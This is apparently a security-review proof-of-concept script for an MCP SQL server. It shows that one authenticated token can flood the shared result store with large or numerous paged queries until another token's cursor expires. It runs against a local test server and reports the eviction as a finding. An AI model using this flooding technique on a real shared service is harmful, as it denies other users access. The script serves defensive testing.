"""attack4 / target 1: one token evicts every other token's held results (no per-caller share).

Token A holds a paged result; token B (another valid token, e.g. another team's agent) runs
N queries that each hold a result near MCP_MAX_RESULT_BYTES (default 4 MB of 64 MB) or just
more results than MCP_RESULT_STORE_COUNT (200). A's next_cursor then answers RESULT_EXPIRED:
B can keep every other caller from ever reading past page 1 (availability, not a leak).
Run: PYTHONPATH=tests:security-review uv run python security-review/attack4/evict_http.py [small]
"""
import asyncio
import sys

import httpx2 as httpx
from common import DSN
from mcp import Client
from mcp.client.streamable_http import streamable_http_client
from paging_http import A, B, call
from test_http import serve

SMALL = "SELECT g, repeat('y', 450) AS pad FROM generate_series(1, 400) g"  # ~3 pages
HUGE = "SELECT g, repeat('z', 450) AS pad FROM generate_series(1, 8000) g"  # ~4 MB


async def main(mode: str) -> int:
    env = {"MCP_AUTH_TOKENS": f"{A},{B}"}
    with serve(DSN, **env) as running:
        async with (
            httpx.AsyncClient(headers={"Authorization": f"Bearer {A}"}, timeout=120) as ha,
            httpx.AsyncClient(headers={"Authorization": f"Bearer {B}"}, timeout=120) as hb,
            Client(streamable_http_client(running.mcp, http_client=ha)) as ca,
            Client(streamable_http_client(running.mcp, http_client=hb)) as cb,
        ):
            ok, out = await call(ca, "execute_query", sql=SMALL)
            cur = out["next_cursor"]
            sql, n = (SMALL, 200) if mode == "small" else (HUGE, 20)
            for _ in range(n):
                ok, o = await call(cb, "execute_query", sql=sql, limit=100000)
                assert ok and "next_cursor" in o, str(o)[:300]
            ok, out = await call(ca, "execute_query", cursor=cur)
            print(f"B ran {n} paged queries ({mode}); A's cursor now:", ok, str(out)[:120])
            print("FINDING: A's result evicted by B" if not ok else "held")
            return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(asyncio.run(main(sys.argv[1] if len(sys.argv) > 1 else "huge")))
